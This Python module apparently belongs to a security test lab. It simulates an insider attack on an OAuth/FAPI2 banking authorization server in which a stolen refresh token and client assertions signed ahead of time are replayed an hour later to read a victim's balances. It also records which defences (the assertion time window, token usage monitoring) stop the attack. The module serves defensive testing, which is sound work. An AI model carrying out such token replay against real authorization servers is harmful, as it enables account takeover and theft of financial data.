"""client-assertion-made-ahead: client assertions signed while the key was at hand, used later.

MT: a FinLens insider had FinLens's client key and database for a moment. It copied the
victim's refresh token and signed three private_key_jwt assertions (RFC 7523 §3), each with
its own jti and the 60 s life the jti check allows (exp − iat ≤ 60 s), then lost access. An
hour later it refreshes the victim's grant as FinLens with one of them and a DPoP key of its
own. RFC 7523 §3: the AS "MUST reject JWTs with an exp claim value that has passed"; FAPI2
§5.3.2.1: iat/nbf more than 60 s in the future are refused. The conformance suite's negative
tests send exactly these: exp long past, iat or nbf far ahead. The window does not stop an
insider who dates each assertion for the minute it will use it: that is key rotation's job.
"""

from __future__ import annotations

from attacker import insider
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.premises import linked_victim
from lab import clock

COUNT = 3        # assertions signed while the key was at hand (one per later refresh)
LATER = 3600     # seconds until the insider uses the first


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    refresh_token = str(insider.link_of(ctx, victim)["refresh_token"] or "")
    if not refresh_token:
        ctx.failed("FinLens holds no refresh token for the victim")
    client_id, signer = insider.assertion_signer(ctx, clock.now_int(ctx.store))
    made = [signer.make(ctx.config.issuer) for _ in range(COUNT)]
    del signer
    ctx.step("attacker", f"signs {COUNT} client assertions with FinLens's key (iat now, exp "
             "60 s later, a jti each), copies the victim's refresh token; then loses access")
    ctx.advance_clock(LATER)
    own_key = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    form = {"grant_type": "refresh_token", "refresh_token": refresh_token,
            "client_id": client_id,
            "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
            "client_assertion": made[0]}
    response = ts.post_token(ctx, form, signer=own_key,
                             what="POST /token: refresh as FinLens with an assertion signed an "
                                  "hour ago" + (", proof from its own key" if own_key else ""))
    tokens = ts.tokens_or_fail(ctx, response, "the AS refused the assertion made an hour ago")
    balances = ts.read_balances(ctx, tokens, signer=own_key)
    ctx.succeeded(f"refreshed the victim's grant as FinLens an hour after losing its key and "
                  f"read {len(balances)} balances", balances)


ATTACK = Attack(
    id="client-assertion-made-ahead", attacker="MT", legs=("store",), victim="prior",
    title="Client assertions signed ahead of time, used after losing the key",
    blocked_by=("client_assertion_time_window",),
    needs={"client_auth": "private_key_jwt"},
    premise="A FinLens insider who briefly had FinLens's client key and database: copied the "
            "victim's refresh token, signed 3 assertions (60 s life each) and lost access; "
            "uses one an hour later.",
    goal="new tokens for the victim's grant an hour after losing the key, then her balances",
    run=run,
    refs=("RFC 7523 §3", "FAPI2 §5.3.2.1", "OIDC §9"),
    not_alone={
        "token_usage_monitoring":
            "alone over legacy the tokens are bearer tokens: only the source address changes, "
            "one alert (weight 40) below the threshold 60 (measured)",
    },
    also_blocked_by={
        "token_usage_monitoring":
            "in fapi2-security+adaptive the refresh succeeds, but the grant's family now "
            "shows a new source address and a new DPoP key (40 + 60): it is revoked and the "
            "insider's first bank call is refused",
    },
)
